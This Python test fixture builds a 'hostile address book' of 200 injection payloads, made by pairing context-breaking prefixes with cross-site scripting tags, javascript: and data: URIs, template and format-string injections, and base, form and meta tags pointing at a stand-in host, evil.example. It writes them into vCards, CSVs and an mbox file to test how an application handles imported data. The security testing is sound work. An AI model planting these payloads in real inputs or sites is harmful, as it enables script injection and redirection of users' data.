"""A hostile address book: two hundred pieces of markup, script, template and format in every field a file can fill."""

import csv
import json
from itertools import product
from pathlib import Path

from askwell.actions.bring_in import bring_in
from askwell.actions.desk import Desk
from askwell.actions.goals import set_goals

ME = "dana@example.com"
VECTORS = (
    "<script evil>alert(1)</script>",
    "<img evil src=x onerror=alert(1)>",
    "<svg evil onload=alert(1)>",
    "<iframe evil src=javascript:alert(1)></iframe>",
    "<a evil href=javascript:alert(1)>x</a>",
    "<base evil href=//evil.example/>",
    "<meta evil http-equiv=refresh content=0;url=//evil.example>",
    "<form evil action=//evil.example><input evil name=x>",
    "<style evil>*{background:url(//evil.example)}</style>",
    "<link evil rel=stylesheet href=//evil.example/x.css>",
    "<object evil data=//evil.example></object>",
    "<details evil open ontoggle=alert(1)>",
    "<template evil shadowrootmode=open><script>alert(1)</script></template>",
    "<ask-letter evil></ask-letter>",
    "<math evil><mtext><img evil src=x onerror=alert(1)></mtext></math>",
    "&lt;script evil&gt;alert(1)&lt;/script&gt;",
    "&#60;img evil src=x onerror=alert(1)&#62;",
    "\\u003cscript evil\\u003ealert(1)\\u003c/script\\u003e",
    "{{ 7|add:1330 }}{% load static %}{% csrf_token %}",
    "{{request.session.items}}${7*191}#{7*191}<%= 7*191 %>",
    "%s%n%x %(name)s {0} {name} {__class__}",
    "javascript:alert(1)//",
    "data:text/html,<script evil>alert(1)</script>",
    "=HYPERLINK(1+1)",
    "\u202egnp.exe <b evil>",
)
BREAKS = ("", '"', "'", '">', "'>", "</textarea>", "</title></script>", "--><!--")
PAYLOADS = tuple(f"{out}{vector}" for out, vector in product(BREAKS, VECTORS))


def fill(desk: Desk, folder: Path) -> None:
    """Goals, people, mail and applications, with a payload wherever words of others can stand."""
    set_goals(desk, goals())
    bring_in(desk, files(folder), me=(ME,))


def files(folder: Path) -> list[Path]:
    """What others could send her, written into a folder."""
    folder.mkdir(exist_ok=True)
    return [_cards(folder), _connections(folder), _mail(folder), _applications(folder)]


def goals() -> str:
    words = [json.dumps(payload) for payload in PAYLOADS[:25]]  # TOML's strings are those of JSON
    lists = ("roles", "fields", "companies", "kinds_of_people", "strengths")
    lines = [f"{name} = [{', '.join(words[at::5])}]" for at, name in enumerate(lists)]
    return "\n".join([f"name = {words[0]}", f"statement = {words[1]}", f"status_line = {words[2]}", *lines])


def _cards(folder: Path) -> Path:
    cards = []
    for number, payload in enumerate(PAYLOADS):
        text = payload.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,")
        lines = [f"N:{text} {number};Eve;;;", f"FN:Eve {text} {number}", f"ORG:{text} {number}", f"TITLE:{text}"]
        lines += [f"NOTE:{text}", f"EMAIL:eve{number}@example.net", f"URL:{text}", f"TEL:{text}"]
        cards.append("\r\n".join(["BEGIN:VCARD", "VERSION:3.0", *lines, "END:VCARD"]))
    return _written(folder / "<img evil src=x onerror=alert(1)>.vcf", "\r\n".join(cards))


def _connections(folder: Path) -> Path:
    file = folder / "Connections.csv"
    with file.open("w", encoding="utf-8", newline="") as stream:
        rows = csv.writer(stream)
        rows.writerow(["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"])
        for n, p in enumerate(PAYLOADS[::4]):
            rows.writerow(["Mallory", f"{p} {n}", f"https://www.linkedin.com/in/{p}", "", p, p, "08 Feb 2021"])
    return file


def _mail(folder: Path) -> Path:
    letters = []
    for number, payload in enumerate(PAYLOADS[::4]):
        sender = payload.replace("\\", "\\\\").replace('"', '\\"')
        lines = [f'From: "Eve {sender}" <eve{4 * number}@example.net>', f"To: Dana <{ME}>", f"Subject: {payload}"]
        lines += [f"Date: Mon, 02 Mar 2026 10:{number % 60:02}:00 +0000", f"Message-ID: <{number}@example.net>", ""]
        lines += [f"Hi Dana, you should talk to Lee {payload} at Ostara. I can introduce you to them.", payload, ""]
        letters.append("From - Mon Mar 02 10:00:00 2026\n" + "\n".join(lines))
    return _written(folder / "mail.mbox", "\n".join(letters))


def _applications(folder: Path) -> Path:
    file = folder / "applications.csv"
    with file.open("w", encoding="utf-8", newline="") as stream:
        rows = csv.writer(stream)
        rows.writerow(["Company", "Title", "Applied", "Status", "Notes"])
        rows.writerows([[f"{p} {n}", p, "2026-03-01", "applied", p] for n, p in enumerate(PAYLOADS[:50])])
    return file


def _written(file: Path, text: str) -> Path:
    file.write_bytes(text.encode())
    return file
